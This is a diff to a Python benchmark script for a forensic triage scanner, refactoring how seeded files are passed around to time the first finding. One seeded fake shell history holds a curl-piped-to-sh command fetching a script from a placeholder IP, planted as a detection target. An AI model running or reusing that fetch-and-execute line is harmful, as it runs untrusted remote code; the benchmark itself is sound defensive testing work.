@@ -50,7 +50,6 @@ EARLY_SEEDS = {  # /etc and /home come before /usr: the walk order alone finds t
     "/home/alice/.bash_history": f"ls -la\ncurl -s http://203.0.113.9/x.sh | sh  # {MARK}\n".encode(),
     **LATE_SEEDS,
 }
-SEEDS = LATE_SEEDS
 TRIAGE = [sys.executable, "-m", "triage"]
 
 
@@ -90,12 +89,12 @@ def triage_run(image: Path, rules: Path, case: Path, workers: int, profile: str 
     return {"first": first, "stopped": time.monotonic() - t0}
 
 
-def scan_order_position(case: Path) -> tuple[int, int]:
+def scan_order_position(case: Path, seeds: dict[str, bytes]) -> tuple[int, int]:
     """(inventory position of the first seeded file, regular files) — where a scan without a profile meets it."""
     con = sqlite3.connect(f"file:{case / 'case.sqlite'}?mode=ro", uri=True)
     rows = [r[0] for r in con.execute("SELECT path FROM files WHERE type='r' ORDER BY id")]
     con.close()
-    pos = min(i for i, p in enumerate(rows, 1) if p in SEEDS)
+    pos = min(i for i, p in enumerate(rows, 1) if p in seeds)
     return pos, len(rows)
 
 
@@ -128,12 +127,11 @@ def main() -> None:
                     help="also seed /etc/passwd and a shell history, which the walk reaches first anyway")
     args = ap.parse_args()
 
-    global SEEDS
-    SEEDS = EARLY_SEEDS if args.early else LATE_SEEDS
-    image = benchmark_image(args.min_files, args.min_bytes, extra=SEEDS, variant="seeded" if args.early else "seeded-var")
+    seeds = EARLY_SEEDS if args.early else LATE_SEEDS
+    image = benchmark_image(args.min_files, args.min_bytes, extra=seeds, variant="seeded" if args.early else "seeded-var")
     info = describe(image)
     print(f"image: {image} ({info['files']} files, {int(info['bytes']) / 1e9:.2f} GB of content); "
-          f"{len(SEEDS)} seeded files in {args.profile} paths")
+          f"{len(seeds)} seeded files in {args.profile} paths")
     subprocess.run(["cat", str(image)], stdout=subprocess.DEVNULL, check=True)  # warm the page cache for all runs
     with tempfile.TemporaryDirectory(prefix="ttff-", dir=image.parent) as tmp:
         work = Path(tmp)
@@ -142,7 +140,7 @@ def main() -> None:
         with_profile = triage_run(image, rules, work / "profile", args.workers, args.profile)
         print(f"triage --profile {args.profile}: first finding after {with_profile['first']:.2f} s")
         without = triage_run(image, rules, work / "none", args.workers, None)
-        pos, total = scan_order_position(work / "none")
+        pos, total = scan_order_position(work / "none", seeds)
         print(f"triage, no profile:          first finding after {without['first']:.2f} s "
               f"(first seeded file is #{pos} of {total} regular files in inventory order)")
         ratio = with_profile["first"] / without["first"]
